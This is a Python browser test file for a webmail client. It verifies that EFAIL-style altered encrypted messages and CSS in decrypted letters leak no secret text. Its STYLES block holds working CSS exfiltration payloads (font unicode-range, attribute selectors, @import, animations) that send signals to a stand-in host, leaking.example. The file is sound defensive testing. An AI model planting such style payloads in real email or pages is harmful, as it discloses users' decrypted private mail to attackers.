"""EFAIL in the real page: what was changed on the way shows nothing, and what was decrypted tells nobody."""

from __future__ import annotations

import base64
import json
import sqlite3
import subprocess
import time
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from . import attacks
from .cage import open_one, put
from .canary import Canary
from .test_hostile_html import sealer
from .under_attack import quiet
from .visitor import SLOW, Visitor

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

ROOT = Path(__file__).resolve().parents[2]
SECRET = "walnut"


def changed(victim: Visitor) -> list[dict[str, str]]:
    """Messages that an attacker made of one that was encrypted to the victim."""
    deadline, row = time.monotonic() + 20, None
    while row is None and time.monotonic() < deadline:
        with sqlite3.connect(victim.site.database) as database:
            query = "SELECT data FROM keys_certificate WHERE address = ?"
            row = database.execute(query, [victim.address]).fetchone()
        time.sleep(0.1)
    assert row, "the person's certificate was not published"
    tool = [str(ROOT / "scripts" / "node"), str(ROOT / "tests" / "crypto" / "efail_tool.mjs")]
    made = subprocess.run(tool, input=base64.b64encode(row[0]), capture_output=True, timeout=120)
    assert made.returncode == 0, made.stderr.decode()
    found: list[dict[str, str]] = json.loads(made.stdout)
    return found


def onward(page: Page) -> str:
    """The next older message, by its place."""
    before = page.url
    page.keyboard.press("n")
    page.wait_for_url(lambda url: url != before)
    return page.url.partition("/mailbox/")[2].rstrip("/")


def everything(page: Page) -> str:
    """The whole document with all of its frames, and the text as it is drawn."""
    return "".join(frame.content() + frame.locator("body").inner_text() for frame in page.frames)


def test_what_was_changed_on_the_way_shows_nothing(victim: Visitor, listener: Canary) -> None:
    before = len(listener.hits)
    messages = changed(victim)
    assert len(messages) > 9
    # The newest is opened first.
    put(victim, [base64.b64decode(one["mail"]) for one in reversed(messages)])
    victim.open_mailbox()
    said = {}
    for one in messages:
        key = onward(victim.page)
        line = victim.page.locator(f'mail-message[data-key="{key}"] protection-line')
        expect(line).to_have_attribute("data-enc", one["enc"], timeout=SLOW)
        if one["enc"] == "enc-ok":
            # What is searched for below is found where it is shown.
            expect(victim.page.frame_locator("[data-slot=letter] iframe").locator("p").first).to_contain_text(SECRET)
            assert SECRET in everything(victim.page)
            continue
        said[one["name"]] = line.get_attribute("data-enc")
        victim.page.wait_for_timeout(300)
        assert SECRET not in everything(victim.page), one["name"]
        if one["enc"] != "enc-none":
            assert victim.page.locator("[data-slot=letter] iframe").count() == 0, one["name"]
            expect(victim.page.locator("[data-slot=subject]")).not_to_contain_text(SECRET)
    assert len(said) == len(messages) - 1
    assert victim.page.evaluate("window.ran ?? null") is None
    assert quiet(listener)[before:] == []


#: StyleMail and what came before it: text measured or compared by style alone, each answer an address of its own.
STYLES = """<style>
@import url(http://leaking.example/import);
@font-face { font-family: ranged; src: url(http://leaking.example/range-w); unicode-range: U+0077 }
@font-face { font-family: ligature; src: url(http://leaking.example/ligature) }
#secret { font-family: ranged, ligature; font-variant-ligatures: common-ligatures }
.box { container-type: inline-size; width: 300px }
@container (min-width: 200px) { #probe { background-image: url(http://leaking.example/container) } }
@media (min-width: 1px) { #media { background-image: url(http://leaking.example/media) } }
[title^=w] { background-image: url(http://leaking.example/attribute) }
body:has([title$=t]) #has { list-style-image: url(http://leaking.example/has); display: list-item }
#before::before { content: url(http://leaking.example/content) }
@keyframes steps { 0% { background-image: url(http://leaking.example/steps) } 100% { background-image: none } }
#steps { animation: steps 1s infinite }
:root { --address: url(http://leaking.example/variable) }
#variable { background-image: var(--address) }
</style>"""
BODY = (
    '<div class="box"><p id="secret" title="walnut">walnut and nothing else</p><p id="probe">one</p></div>'
    '<p id="media">two</p><p id="has">three</p><p id="before">four</p><p id="steps">five</p><p id="variable">six</p>'
    '<p style="background-image:url(http://leaking.example/inline)">seven</p>'
)
PLACES = ["import", "range-w", "container", "media", "attribute", "has", "content", "steps", "variable", "inline"]


def test_style_in_a_decrypted_letter_measures_nothing(victim: Visitor, listener: Canary) -> None:
    before = len(listener.hits)
    letter = attacks.alternatives((STYLES + BODY).encode())
    page = open_one(victim, attacks.encrypted(victim.address, sealer(victim)(letter)))
    expect(victim.line).to_have_attribute("data-enc", "enc-ok", timeout=SLOW)
    frame = page.frame_locator("[data-slot=letter] iframe")
    expect(frame.locator("body")).to_contain_text("walnut and nothing else")
    assert frame.locator("body style, body link").count() == 0
    styles = frame.locator("p, div").evaluate_all(
        "all => all.map((each) => getComputedStyle(each)).map((style) =>"
        " [style.fontFamily, style.backgroundImage, style.containerType, style.animationName].join())"
    )
    assert not any(word in " ".join(styles) for word in ("ranged", "url(", "inline-size", "steps"))
    assert quiet(listener)[before:] == []


def test_an_answer_to_a_wrap_quotes_nothing_of_it(victim: Visitor, listener: Canary) -> None:
    before = len(listener.hits)
    wrap = next(one for one in changed(victim) if one["enc"] == "enc-none")
    page = open_one(victim, base64.b64decode(wrap["mail"]))
    expect(victim.line).to_have_attribute("data-enc", "enc-none", timeout=SLOW)
    page.locator("[data-answer=reply]").first.click()
    expect(page.locator("textarea[data-text]")).to_be_visible()
    page.wait_for_timeout(500)
    assert SECRET not in page.locator("textarea[data-text]").input_value()
    assert quiet(listener)[before:] == []


def test_the_same_style_would_tell_all_of_it(caged: BrowserContext, victim: Visitor, listener: Canary) -> None:
    """The proof that the silence above means something: another page of the same browser, without walls."""
    before = len(listener.hits)
    page = caged.new_page()
    page.route("**/measured", lambda route: route.fulfill(content_type="text/html", body=STYLES + BODY))
    page.goto(f"{victim.site.url}/measured")
    page.wait_for_timeout(1500)
    page.close()
    # Connections that the browser opened to have them at hand are noted when they end.
    heard = " ".join(quiet(listener, 6)[before:])
    listener.forget(before)
    assert [place for place in PLACES if f"/{place} " not in heard] == []
